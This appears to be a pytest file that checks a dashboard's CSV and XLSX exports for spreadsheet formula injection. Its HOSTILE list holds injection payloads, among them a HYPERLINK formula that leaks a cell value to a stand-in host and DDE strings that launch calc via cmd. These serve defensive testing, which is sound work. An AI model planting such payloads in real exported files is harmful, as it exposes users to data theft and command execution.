"""Names that a spreadsheet would run, in every file that can be asked for."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import duckdb
import pytest
from flask.testing import FlaskClient
from python_calamine import CalamineWorkbook

from app import create_app
from dashboard.config import Settings
from tests import tiny

HOSTILE = (
    "=HYPERLINK(\"https://elsewhere.invalid/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|'x'!A0",
    "@SUM(1+1)*cmd|'x'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1",
    "＠x", "=",
)  # fmt: skip
_BEGINS = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")
_NAMES = {
    "school": ("name_th", "name_en"), "area": ("name_th", "name_en", "short_th", "short_en"),
    "district": ("name_th", "name_en"), "province": ("name_th", "name_en"),
    "region": ("name_th", "name_en"),
}  # fmt: skip
ADDRESSES = (
    "/export/values.csv?by=province", "/export/values.csv?province=15&by=school",
    "/export/values.csv?province=15&by=district&indicator=SIT-01.students",
    "/export/schools.csv?cols=province~area~district~INT-03", "/export/schools.csv?province=15",
    "/export/schools.xlsx?cols=province~area~district~INT-03", "/export/schools.xlsx?area=1501",
    "/export/compare.csv?vs=province.15~16", "/export/compare.csv?vs=school.1015000001~1015000003",
    "/export/worklist.xlsx?area=1501",
)  # fmt: skip


@pytest.fixture(scope="module", params=HOSTILE, ids=range(len(HOSTILE)))
def desk_of_names(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[FlaskClient, str]]:
    """A client of an app whose every place has a name that begins so, and that beginning."""
    file = tiny.write(tmp_path_factory.mktemp("cells") / "cells.duckdb")
    with duckdb.connect(str(file)) as con:
        for table, columns in _NAMES.items():
            for column in columns:
                con.execute(f"UPDATE {table} SET {column} = $s || {column}", {"s": request.param})
        # A school without coordinates stands on the list of what to mend.
        con.execute("UPDATE school SET coordinate_state = 'missing'")
    app = create_app(Settings(snapshot=file, ahead=False, log_level="WARNING"))
    yield app.server.test_client(), request.param


def _cells(path: str, body: bytes) -> list[object]:
    if ".xlsx" in path:
        book = CalamineWorkbook.from_filelike(io.BytesIO(body))
        return [
            cell for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python()
            for cell in row
        ]
    words = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(words, newline="")) for cell in row]


def _is_number(cell: object) -> bool:
    try:
        return float(str(cell)) is not None
    except ValueError:
        return False


@pytest.mark.parametrize("lang", ["th", "en"])
@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.proves("hardening.cells")
def test_no_cell_of_any_file_is_a_formula(
    desk_of_names: tuple[FlaskClient, str], address: str, lang: str
) -> None:
    desk, begins = desk_of_names
    answer = desk.get(f"{address}&lang={lang}")
    assert answer.status_code == 200, answer.text
    cells = _cells(address, answer.data)
    wrong = [
        cell for cell in cells
        if isinstance(cell, str) and _BEGINS.match(cell) and not _is_number(cell)
    ]
    assert not wrong, wrong
    # The names are there, behind a mark that every spreadsheet takes for text.
    mark = begins.strip()[:1]
    assert any(str(cell).startswith("'") and mark in str(cell) for cell in cells)
    assert b"<f>" not in answer.data


def test_numbers_below_nothing_stay_numbers() -> None:
    assert _is_number("-3") and _BEGINS.match("-3")


@pytest.mark.proves("hardening.cells")
def test_every_file_is_tried(tiny_app: object) -> None:
    rules = {str(rule) for rule in tiny_app.server.url_map.iter_rules()}  # type: ignore[attr-defined]
    files = {rule for rule in rules if rule[-4:] in (".csv", "xlsx")}
    # That of the log has names of its own: tests/dashboard/audit/test_log.py. What the page makes
    # is tried in a browser: tests/browser/test_lasso_file.py.
    assert files == {address.partition("?")[0] for address in ADDRESSES} | {"/audit/export.csv"}
